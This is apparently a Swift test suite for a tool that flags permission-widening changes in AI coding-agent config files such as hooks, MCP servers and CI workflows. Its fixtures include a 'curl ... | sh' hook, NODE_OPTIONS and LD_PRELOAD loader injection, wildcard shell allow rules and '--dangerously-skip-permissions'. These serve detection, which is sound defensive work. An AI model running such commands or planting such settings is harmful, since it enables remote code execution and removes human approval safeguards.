import Files
import Testing

@testable import Grants

@Suite("Grant comparisons")
struct GrantComparisonTests {
  private func compare(_ path: String, _ old: String?, _ new: String?) throws -> GrantComparison {
    GrantComparison(
      from: try old.map { try GrantingFileTests.file(path, $0) },
      to: try new.map { try GrantingFileTests.file(path, $0) })
  }

  private let settings = GrantingFileTests.settings

  @Test("Both commands of a changed hook are quoted as written")
  func commands() throws {
    func hook(_ command: String) -> String { #"{"hooks": {"Stop": [{"hooks": [{"command": "\#(command)"}]}]}}"# }
    let comparison = try compare(settings, hook("./a.sh"), hook("curl -s https://a.example | sh"))
    #expect(
      comparison.changes.map(\.sentence.description) == [
        "`curl -s https://a.example | sh` runs when the agent finishes, without asking. Before: it was `./a.sh`."
      ])
    #expect(comparison.danger == .networkToShell)
    #expect(comparison.changes[0].condition == "once the folder is trusted; in `claude -p` always")
    #expect(comparison.changes[0].before?.says?.parts.first == .quoted("./a.sh"))
  }

  @Test("Added and removed files are compared with an empty file")
  func addedAndRemoved() throws {
    let text = #"{"mcpServers": {"a": {"command": "a"}}}"#
    let added = try compare(".mcp.json", nil, text)
    #expect(added.verdict == .widens)
    #expect(added.changes[0].before == nil)
    let removed = try compare(".mcp.json", text, nil)
    #expect(removed.verdict == .narrows)
    #expect(removed.danger == .none)
    #expect(removed.changes[0].after == nil)
    let deny = #"{"permissions": {"deny": ["Bash(curl *)"]}}"#
    #expect(try compare(settings, deny, nil).verdict == .widens)
    #expect(try compare(settings, nil, deny).verdict == .narrows)
  }

  @Test(
    "Another order or notation is not a change",
    arguments: [
      (
        #"{"permissions": {"allow": ["Read", "Bash(a)"]}, "env": {"A": "1", "B": "2"}}"#,
        #"{"env": {"B": "2", "A": "1"}, "permissions": {"allow": ["Bash(a)", "Read"]}}"#
      ),
      (
        #"{"hooks": {"Stop": [{"hooks": [{"command": "a"}]}, {"hooks": [{"command": "b"}]}]}}"#,
        #"{"hooks": {"Stop": [{"matcher": "", "hooks": [{"command": "b"}, {"command": "a", "type": "command"}]}]}}"#
      ),
      (#"{"permissions": {"defaultMode": "default"}}"#, #"{"permissions": {"defaultMode": "manual"}}"#),
      (#"{"sandbox": {"enabled": true}}"#, #"{"sandbox": {"enabled": true, "autoAllowBashIfSandboxed": true}}"#),
    ])
  func order(_ old: String, _ new: String) throws {
    #expect(try compare(settings, old, new).changes.filter { $0.effect != .same }.isEmpty)
  }

  @Test(
    "Changes get the right verdict",
    arguments: [
      // A rule for another command next to the first.
      (#"{"permissions": {"allow": ["Bash(git *)"]}}"#, #"{"permissions": {"allow": ["Bash(npm *)"]}}"#, "mixed"),
      (#"{"permissions": {"allow": ["Bash"]}}"#, #"{"permissions": {"allow": ["Bash(git *)"]}}"#, "narrows"),
      // A rule within an allowed rule.
      (
        #"{"permissions": {"allow": ["Bash(git *)"]}}"#,
        #"{"permissions": {"allow": ["Bash(git *)", "Bash(git push *)"]}}"#, "same"
      ),
      // A deny rule takes precedence over an allow rule, so nothing is wider.
      (
        #"{"permissions": {"deny": ["Bash"]}}"#, #"{"permissions": {"deny": ["Bash"], "allow": ["Bash(git *)"]}}"#,
        "same"
      ),
      (
        #"{"hooks": {"PreToolUse": [{"matcher": "Bash|Edit", "hooks": [{"command": "a"}]}]}}"#,
        #"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": "a"}]}]}}"#, "mixed"
      ),
      (#"{"hooks": {"Stop": [{"hooks": [{"command": "a"}]}]}}"#, #"{"hooks": {"Stop": []}}"#, "narrows"),
      (#"{"env": {"LD_PRELOAD": "a"}}"#, #"{"env": {"LD_PRELOAD": "b"}}"#, "widens"),
      (#"{"permissions": {"defaultMode": "bypassPermissions"}}"#, #"{}"#, "narrows"),
      // Without the key, the mode is that of the user, or the built-in one, which may be auto mode.
      (#"{}"#, #"{"permissions": {"defaultMode": "default"}}"#, "narrows"),
      (#"{"permissions": {"defaultMode": "plan"}}"#, #"{"permissions": {"defaultMode": "dreams"}}"#, "unknown"),
    ])
  func differences(_ old: String, _ new: String, _ verdict: String) throws {
    let comparison = try compare(settings, old, new)
    #expect(comparison.verdict.rawValue == verdict, "\(comparison.changes.map(\.sentence))")
  }

  @Test("A broken file widens access if a rule no longer blocks")
  func broken() throws {
    let comparison = try compare(settings, #"{"permissions": {"deny": ["Bash(rm *)"]}}"#, "{")
    #expect(comparison.verdict == .widens)
    #expect(comparison.danger == .writes)
    #expect(comparison.changes.count == 2)
    #expect(comparison.changes.last?.key == "(the file)")
    #expect(try compare(settings, "{", "{").changes.isEmpty)
    #expect(try compare(settings, "{", #"{"permissions": {"allow": ["Bash"]}}"#).danger == .promptsOff)
  }

  @Test("Each workflow step is compared on its own")
  func steps() throws {
    func step(_ tools: String) -> String {
      "      - uses: anthropics/claude-code-action@v1\n        with: {claude_args: '--allowedTools \"\(tools)\"'}\n"
    }
    let head = "on: push\njobs:\n  a:\n    steps:\n"
    let path = ".github/workflows/a.yml"
    let wider = try compare(path, head + step("Bash") + step("Read"), head + step("Bash") + step("Read,Bash"))
    #expect(wider.verdict == .widens)
    #expect(wider.danger == .promptsOff)
    // Steps that start no agent are irrelevant.
    let other = try compare(path, head + step("Bash"), head + "      - run: make\n" + step("Bash"))
    #expect(other.changes.isEmpty)
    let script =
      "      - run: |\n          make\n          claude -p \\\n            x --dangerously-skip-permissions\n"
    let added = try compare(path, nil, head + script)
    #expect(added.danger == .promptsOff)
    // The line of the option, not that of the command.
    #expect(added.changes.first?.after?.line == 8)
  }

  @Test("A declaration of unknown effect that is removed makes nothing wider")
  func declarations() throws {
    let both = "[agents.a]\nconfig_file = \"a.toml\"\n[agents.b]\nconfig_file = \"b.toml\"\n"
    let path = ".codex/config.toml"
    #expect(try compare(path, both, "[agents.a]\nconfig_file = \"a.toml\"\n").verdict == .narrows)
    #expect(try compare(path, both, nil).verdict == .narrows)
    // The role remains, without the limits that its file may have.
    let left = "[agents.a]\nconfig_file = \"a.toml\"\n[agents.b]\ndescription = \"B.\"\n"
    #expect(try compare(path, both, left).verdict == .unknown)
    #expect(try compare(path, nil, both).verdict == .unknown)
    #expect(try compare("opencode.json", #"{"command": {"x": {"template": "y"}}}"#, "{}").verdict == .narrows)
    #expect(try compare("opencode.json", #"{"server": {"port": 1}}"#, "{}").verdict == .unknown)
  }

  @Test("A plugin in the repository itself changes no access by being listed")
  func localPlugins() throws {
    let text = #"{"plugins": [{"name": "a", "source": "./a"}]}"#
    let path = ".claude-plugin/marketplace.json"
    let (added, removed) = (try compare(path, nil, text), try compare(path, text, nil))
    #expect(added.verdict == .same)
    #expect(removed.verdict == .same)
    let says = "with no change in access: `a` is the folder `./a` of this repository."
    #expect(added.changes.map(\.sentence.description) == ["Added, \(says)"])
    #expect(removed.changes.map(\.sentence.description) == ["Removed, \(says)"])
  }

  @Test("A plugin that moves within a marketplace changes nothing")
  func movedPlugins() throws {
    let hooked =
      #"{"name": "a", "source": "./a", "hooks": {"Stop": [{"hooks": [{"type": "prompt", "prompt": "Done?"}]}]}}"#
    let other = #"{"name": "b", "source": "./b"}"#
    let path = ".claude-plugin/marketplace.json"
    let moved = try compare(path, #"{"plugins": [\#(hooked), \#(other)]}"#, #"{"plugins": [\#(other), \#(hooked)]}"#)
    #expect(moved.changes.isEmpty)
    #expect(
      try compare(path, #"{"plugins": [\#(other)]}"#, #"{"plugins": [\#(other), \#(hooked)]}"#).verdict == .widens)
  }

  @Test(
    "Servers without a version run the newest one",
    arguments: [
      (["npx", "-y", "a"], true), (["npx", "-y", "a@1.2"], false), (["docker", "run", "-i", "--rm", "a/b"], true),
      (["docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/a/b:v1"], false),
      (["docker", "run", "-e", "TOKEN", "host:5000/a"], true), (["docker", "run", "--env=A", "a:latest"], true),
      (["docker", "run", "a@sha256:00"], false),
    ])
  func versions(_ words: [String], _ isNewest: Bool) throws {
    let arguments = words.dropFirst().map { "\"\($0)\"" }.joined(separator: ", ")
    let text = #"{"mcpServers": {"s": {"command": "\#(words[0])", "args": [\#(arguments)]}}}"#
    let sentences = try compare(".mcp.json", nil, text).changes.map(\.sentence.description)
    #expect(sentences.contains { $0.contains("in its newest version") } == isNewest, "\(sentences)")
  }

  @Test("The effort of the model is no access")
  func effort() throws {
    let (low, high) = (
      #"{"env": {"CLAUDE_CODE_EFFORT_LEVEL": "low"}}"#, #"{"env": {"CLAUDE_CODE_EFFORT_LEVEL": "high"}}"#
    )
    #expect(try compare(settings, low, high).verdict == .same)
    #expect(try compare(settings, high, "{}").verdict == .same)
  }

  @Test("Commits are shown with their first digits")
  func commits() throws {
    func market(_ digit: Character) -> String {
      let commit = String(repeating: digit, count: 40)
      return #"{"plugins": [{"name": "a", "source": {"source": "github", "repo": "x/a", "sha": "\#(commit)"}}]}"#
    }
    let changes = try compare(".claude-plugin/marketplace.json", market("1"), market("2")).changes
    #expect(
      changes.map(\.sentence.description) == [
        "`a` comes from `github.com/x/a`, at `222222222222`. Before: `a` comes from `github.com/x/a`, at `111111111111`."
      ])
  }

  @Test("A change without an effect says whether the key was added, removed or changed")
  func withoutEffect() throws {
    func told(_ old: String, _ new: String) throws -> [String] {
      try compare(settings, old, new).changes.map(\.sentence.description)
    }
    let servers = #"{"enableAllProjectMcpServers": false}"#
    let ask = "servers of `.mcp.json` ask before they start, unless they are listed."
    #expect(try told("{}", servers) == ["Added, with no change in access: \(ask)"])
    #expect(try told(servers, "{}") == ["Removed, with no change in access: \(ask)"])
    let rule = #"{"permissions": {"allow": ["Bash(git *)", "Bash(git push *)"]}}"#
    let less = rule.replacing(#", "Bash(git push *)""#, with: "")
    #expect(try told(less, rule)[0].hasPrefix("Added, with no change in access: shell commands that begin with"))
    #expect(try told(rule, less)[0].hasPrefix("Removed, with no change in access: shell commands that begin with"))
  }

  @Test("A hook or a server that runs in another way says what changed")
  func properties() throws {
    func hook(_ rest: String) -> String { #"{"hooks": {"Stop": [{"hooks": [{"command": "a"\#(rest)}]}]}}"# }
    func told(_ old: String, _ new: String, at path: String) throws -> [String] {
      try compare(path, old, new).changes.map(\.sentence.description)
    }
    let runs = "`a` runs when the agent finishes, without asking."
    let shell = hook(#", "shell": "bash""#)
    #expect(try told(hook(""), shell, at: settings) == ["\(runs) `shell` was set to `bash`."])
    #expect(try told(shell, hook(""), at: settings) == ["\(runs) `shell`, which was `bash`, was removed."])
    #expect(
      try told(shell, hook(#", "shell": "zsh""#), at: settings) == [
        "\(runs) `shell` changed from `bash` to `zsh`."
      ])
    func server(_ rest: String) -> String { #"{"mcpServers": {"a": {"command": "a", \#(rest)}}}"# }
    #expect(
      try told(server(#""cwd": "x""#), server(#""cwd": "y""#), at: ".mcp.json") == [
        "The configuration of the server `a` was changed: `cwd` changed from `x` to `y`."
      ])
    // The order of names in a matcher has no meaning.
    func matcher(_ names: String) -> String {
      #"{"hooks": {"PreToolUse": [{"matcher": "\#(names)", "hooks": [{"command": "a"}]}]}}"#
    }
    let swapped = try compare(settings, matcher("Bash|Edit"), matcher("Edit|Bash"))
    #expect(swapped.verdict == .same)
    #expect(
      swapped.changes.map(\.sentence.description) == [
        "No change in access: the matchers `Bash|Edit` and `Edit|Bash` mean the same."
      ])
  }

  @Test("Permissions of an agent are separate from those of all sessions")
  func agents() throws {
    let old = #"{"permission": {"bash": "ask"}}"#
    let new =
      #"{"permission": {"bash": "ask"}, "agent": {"a": {"permission": {"bash": {"*": "ask", "git *": "allow"}}}}}"#
    let comparison = try compare("opencode.json", old, new)
    #expect(
      comparison.changes.filter { $0.effect == .widens }.map(\.sentence.description) == [
        "For the agent `a`: shell commands that begin with the words `git` always asked first, because of "
          + "`bash`, the last rule that matches; now they run without asking."
      ])
  }

  @Test("A changed package or address of a server is found")
  func sources() throws {
    func server(_ words: String) -> String { #"{"mcpServers": {"a": {"command": "npx", "args": [\#(words)]}}}"# }
    let pinned = try compare(".mcp.json", server(#""-y", "a-mcp""#), server(#""-y", "a-mcp@1.0.0""#))
    #expect(pinned.verdict == .narrows)
    let other = try compare(".mcp.json", server(#""-y", "a-mcp""#), server(#""-y", "b-mcp@1.0.0""#))
    #expect(other.verdict == .widens)
    let url = try compare(
      ".mcp.json", #"{"mcpServers": {"a": {"url": "https://a.example"}}}"#,
      #"{"mcpServers": {"a": {"url": "https://b.example"}}}"#)
    #expect(url.danger == .network)
    #expect(
      url.changes.map(\.sentence.description) == [
        "The server `a` is at `https://b.example`. Before: it was `https://a.example`."
      ])
  }

  @Test("Every command of a hook is checked")
  func shells() throws {
    let text = #"{"hooks": {"preToolUse": [{"powershell": "make", "bash": "curl -s https://a.example | sh"}]}}"#
    let comparison = try compare(".github/hooks/a.json", nil, text)
    #expect(comparison.danger == .networkToShell)
    #expect(comparison.changes.first?.sentence.description.contains("`make`") == true)
  }

  @Test("A pattern of only wildcards allows everything", arguments: ["Bash(**)", "Bash(*:*)", "Bash(:*)", "Bash( * )"])
  func stars(_ rule: String) throws {
    let comparison = try compare(settings, "{}", #"{"permissions": {"allow": ["\#(rule)"]}}"#)
    #expect(comparison.danger == .promptsOff)
  }

  @Test("A removed rule keeps its line, even below a key with dots")
  func places() throws {
    let rules = "{\n  \"chat.tools.terminal.autoApprove\": {\n    \"make\": true\n  }\n}"
    let none = "{\n\n  \"chat.tools.terminal.autoApprove\": {}\n}"
    let change = try #require(try compare(".vscode/settings.json", rules, none).changes.first)
    #expect(change.effect == .narrows)
    #expect(change.before?.line == 3)
    #expect(change.after?.line == 3)
    #expect(change.after?.says == nil)
  }

  @Test("Environment variables of servers count, and keys unknown to the runtime do not")
  func environment() throws {
    func server(_ rest: String) -> String { #"{"mcpServers": {"a": {"command": "a"\#(rest)}}}"# }
    let loader = try compare(".mcp.json", server(""), server(#", "env": {"NODE_OPTIONS": "--require ./a.js"}"#))
    #expect(loader.danger == .runs)
    #expect(
      loader.changes.map(\.sentence.description) == [
        "The server `a` gets `NODE_OPTIONS`, set to `--require ./a.js`, which changes which programs run."
      ])
    let value = try compare(".mcp.json", server(#", "env": {"A": "1"}"#), server(#", "env": {"A": "2"}"#))
    #expect(value.verdict == .widens)
    #expect(try compare(".mcp.json", nil, server(#", "disabled": true, "enabled": false"#)).danger == .runs)
    let codex = "[mcp_servers.a]\ncommand = \"a\"\nenabled = "
    #expect(try compare(".codex/config.toml", nil, codex + "false").verdict == .same)
    #expect(try compare(".codex/config.toml", codex + "false", codex + "true").verdict == .widens)
  }

  @Test(
    "Agents are found however a workflow starts them",
    arguments: [
      "- uses: Anthropics/Claude-Code-Action@v1", "- uses: anthropics/claude-code-action/base-action@v1",
      "- run: git add -A && claude -p x", "- run: npx -y @anthropic-ai/claude-code@2 -p x",
      "- run: npx --yes claude -p x", "- run: A=1 timeout --foreground 5m claude -p x",
      "- run: if command -v claude; then claude -p x; fi", "- run: cat a | /usr/bin/claude -p x",
      "- &a {run: claude -p x}\n- *a", "- run: [claude -p",
    ])
  func starts(_ step: String) throws {
    let path = try #require(RelativePath(".github/workflows/a.yml"))
    let lines = step.split(separator: "\n").map { "    \($0)\n" }.joined()
    let file = GrantingFile(path, Array("on: push\njobs:\n  a:\n    steps:\n\(lines)".utf8))
    #expect(file != nil)
    #expect(GrantComparison(from: nil, to: file).verdict == (step.contains("[") ? .unknown : .widens))
  }

  @Test("A program that only describes itself is not started", arguments: ["--version", "--help", "-v"])
  func questions(_ option: String) throws {
    let path = ".github/workflows/a.yml"
    let workflow = "on: push\njobs:\n  a:\n    steps:\n    - run: claude \(option)\n"
    #expect(try compare(path, nil, workflow.replacing(option, with: "-p \(option)")).verdict == .widens)
    #expect(GrantingFile(try #require(RelativePath(path)), Array(workflow.utf8)) == nil)
  }

  @Test("Extensions of Gemini CLI that a workflow installs are reported")
  func extensions() throws {
    let path = ".github/workflows/a.yml"
    let step =
      "on: push\njobs:\n  a:\n    steps:\n    - uses: google-github-actions/run-gemini-cli@v1\n      with:\n        prompt: x\n"
    let more = step + "        extensions: |\n          [\"https://github.com/a/b\"]\n"
    let change = try compare(path, step, more)
    #expect(change.verdict == .widens && change.danger == .runs)
    #expect(change.changes[0].sentence.description.contains("he run installs the extensions"))
    #expect(try compare(path, more, step).verdict == .narrows)
  }

  @Test("A manifest that names the default folders of a plugin changes nothing")
  func defaultFolders() throws {
    let path = "oven/.claude-plugin/plugin.json"
    func manifest(_ rest: String) -> String { #"{"name": "oven"\#(rest)}"# }
    let named = manifest(#", "agents": ["./agents/"], "skills": ["./skills/a", "skills"], "commands": "./commands""#)
    #expect(try compare(path, manifest(""), named).verdict == .same)
    #expect(try compare(path, named, manifest("")).verdict == .same)
    let more = try compare(path, named, named.replacing(#""skills"]"#, with: #""more", "./skills/../x"]"#))
    #expect(more.verdict == .widens)
    #expect(more.changes.map(\.sentence.description).contains { $0.contains("skills of `more ./skills/../x`") })
    #expect(try compare(path, manifest(""), manifest(#", "agents": ["./agents/a.md"]"#)).verdict == .narrows)
  }

  @Test("A workflow without permissions has those of the repository")
  func permissions() throws {
    let agent = "jobs: {a: {steps: [{run: claude -p x}]}}\n"
    let path = ".github/workflows/a.yml"
    let removed = try compare(path, "on: push\npermissions: {contents: read}\n" + agent, "on: push\n" + agent)
    #expect(removed.verdict == .widens)
    #expect(removed.danger == .writes)
    let listed = try compare(path, "on: push\n" + agent, "on: push\npermissions: {contents: read}\n" + agent)
    #expect(listed.verdict == .narrows)
    let added = try compare(path, nil, "on: push\npermissions: {contents: write}\n" + agent)
    #expect(added.changes.contains { $0.key == "permissions.contents" && $0.danger == .writes })
  }

  @Test("Environment variables of unknown effect are unknown, and timeouts of hooks are ignored")
  func unknown() throws {
    #expect(try compare(settings, "{}", #"{"env": {"A": "1"}}"#).verdict == .unknown)
    func hook(_ rest: String) -> String { #"{"hooks": {"Stop": [{"hooks": [{"command": "a"\#(rest)}]}]}}"# }
    #expect(try compare(settings, hook(""), hook(#", "timeout": 5"#)).changes.isEmpty)
    #expect(try compare(settings, hook(""), hook(#", "shell": "powershell""#)).verdict == .widens)
  }

  @Test(
    "A changed plugin or tool of OpenCode widens access", arguments: [".opencode/plugin/a.js", ".opencode/tools/a.ts"])
  func programs(_ path: String) throws {
    let comparison = try compare(path, "a()", "b()")
    #expect(comparison.verdict == .widens)
    #expect(comparison.changes.first?.sentence.text.hasSuffix(". Its content changed.") == true)
    #expect(try compare(path, "a()", "a()").changes.isEmpty)
  }
}
